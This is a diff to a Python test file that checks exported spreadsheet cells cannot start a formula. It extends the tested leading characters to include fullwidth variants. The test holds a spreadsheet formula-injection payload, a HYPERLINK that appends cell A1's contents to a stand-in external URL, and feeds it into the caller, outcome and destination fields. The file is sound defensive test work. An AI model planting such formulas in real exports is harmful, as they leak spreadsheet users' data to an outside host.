@@ -40,7 +40,7 @@ async def test_whole_numbers_come_when_asked_and_are_no_formula() -> None:
     assert [each["caller"] for each in read_rows(answer)] == ["'+15550100001"]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 async def test_no_cell_begins_a_formula(start: str) -> None:
     formula = f'{start}HYPERLINK("http://example.com/?"&A1,"Click")'
     summary = replace(VIEW.summary, caller=formula, outcome_text=formula, destination=formula)
